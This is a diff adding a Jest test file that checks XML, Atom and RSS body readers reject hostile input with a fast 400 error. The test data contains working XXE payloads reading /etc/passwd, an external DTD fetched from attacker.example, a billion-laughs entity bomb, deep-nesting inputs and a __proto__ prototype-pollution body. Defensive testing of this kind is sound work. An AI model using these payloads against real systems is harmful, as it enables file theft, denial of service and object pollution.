@@ -1,0 +1,87 @@
+import { ProblemType } from '../../src/errors/problem-types';
+import { AtomConverter, type BodyConverter, type BodyKind, RssConverter, XmlObjectConverter, XmlSourceConverter } from '../../src/converters';
+import { readOptions, rejection, timed } from './helpers';
+
+const XXE = `<?xml version="1.0"?>
+<!DOCTYPE book [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<book><title>&xxe;</title></book>`;
+
+const XXE_PARAMETER = `<?xml version="1.0"?>
+<!DOCTYPE book [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]>
+<book/>`;
+
+const BILLION_LAUGHS = `<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<lolz>&lol9;</lolz>`;
+
+const deep = (levels: number): string => `${'<a>'.repeat(levels)}x${'</a>'.repeat(levels)}`;
+
+const readers: readonly [string, BodyConverter, BodyKind, string][] = [
+  ['xml-object', new XmlObjectConverter(), 'object', 'application/xml'],
+  ['xml-source', new XmlSourceConverter(), 'xml-document', 'text/xml'],
+  ['atom', new AtomConverter(), 'feed', 'application/atom+xml'],
+  ['rss', new RssConverter(), 'feed', 'application/rss+xml'],
+];
+
+const attacks: readonly [string, string | Buffer][] = [
+  ['an external entity (XXE)', XXE],
+  ['an external parameter entity', XXE_PARAMETER],
+  ['entity expansion (billion laughs)', BILLION_LAUGHS],
+  ['a DOCTYPE with only a public identifier', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'],
+  ['a lower-case doctype after a comment', '<!-- hi --><!doctype a><a/>'],
+  ['a DOCTYPE in UTF-16', Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', 'utf16le')],
+  ['an undeclared entity reference', '<a>&xxe;</a>'],
+  ['elements nested deeper than the limit', deep(65)],
+  ['a hundred thousand nested elements', deep(100_000)],
+];
+
+describe.each(readers)('the %s reader', (_name, converter, kind, contentType) => {
+  it.each(attacks)('answers 400 to %s, fast', async (_attack, body) => {
+    const [, elapsed] = await timed(() => converter.read(Buffer.isBuffer(body) ? body : Buffer.from(body), readOptions(contentType, kind)));
+    const error = await rejection(converter.read(Buffer.isBuffer(body) ? body : Buffer.from(body), readOptions(contentType, kind)), 400);
+    expect(error.type).toBe(ProblemType.malformedBody);
+    expect(elapsed).toBeLessThan(250);
+  });
+
+  it('names the DOCTYPE as the reason', async () => {
+    const error = await rejection(converter.read(Buffer.from(XXE), readOptions(contentType, kind)), 400);
+    expect(error.detail).toMatch(/DOCTYPE/);
+  });
+
+  it('honours a configured depth limit', async () => {
+    const error = await rejection(converter.read(Buffer.from(deep(5)), readOptions(contentType, kind, { maxDepth: 4 })), 400);
+    expect(error.detail).toMatch(/deeper than 4 levels/);
+  });
+});
+
+describe('the XML object reader', () => {
+  const converter = new XmlObjectConverter();
+
+  it('reads elements nested exactly to the limit', async () => {
+    await expect(converter.read(Buffer.from(deep(4)), readOptions('application/xml', 'object', { maxDepth: 4 }))).resolves.toEqual({ a: { a: { a: 'x' } } });
+  });
+
+  it('does not mistake DOCTYPE text in comments, CDATA or attribute values for a declaration', async () => {
+    const body = '<a note="&lt;!DOCTYPE x>"><!-- <!DOCTYPE y> --><b><![CDATA[<!DOCTYPE z>]]></b></a>';
+    await expect(converter.read(Buffer.from(body), readOptions('application/xml', 'object'))).resolves.toEqual({ note: '<!DOCTYPE x>', b: '<!DOCTYPE z>' });
+  });
+
+  it('never lets element or attribute names reach a prototype', async () => {
+    const body = '<a __proto__="x"><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor><ok>1</ok></a>';
+    const value = await converter.read(Buffer.from(body), readOptions('application/xml', 'object'));
+    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
+    expect(value).toEqual({ ok: '1' });
+    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
+  });
+});
